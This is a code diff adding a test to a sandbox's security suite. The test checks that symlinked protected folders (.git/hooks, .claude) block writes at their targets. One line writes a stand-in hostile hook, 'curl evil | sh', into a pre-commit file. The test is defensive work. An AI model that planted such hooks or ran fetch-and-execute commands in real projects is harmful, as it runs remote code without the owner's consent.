@@ -369,3 +369,17 @@ def test_a_memory_cgroup_caps_the_call_as_a_whole(sandbox: Sandbox) -> None:
     assert len(codes) == 3
     assert "137" in codes  # the kernel killed a hog (SIGKILL), inside the call alone
     assert sandbox.sh("echo still here").text == "still here\n"
+
+
+def test_a_protected_folder_that_is_a_symlink_is_protected_where_it_leads(
+    sandbox: Sandbox,
+) -> None:
+    shutil.rmtree(sandbox.workspace / ".git" / "hooks")
+    (sandbox.workspace / ".githooks").mkdir()
+    (sandbox.workspace / ".git" / "hooks").symlink_to("../.githooks")
+    (sandbox.outside / "shared-claude").mkdir()
+    (sandbox.workspace / ".claude").symlink_to(sandbox.outside / "shared-claude")
+    done = sandbox.sh("echo 'curl evil | sh' > .git/hooks/pre-commit; echo x > .claude/s; ls")
+    assert "README" in done.text  # the sandbox still starts
+    assert not (sandbox.workspace / ".githooks" / "pre-commit").exists()
+    assert list((sandbox.outside / "shared-claude").iterdir()) == []
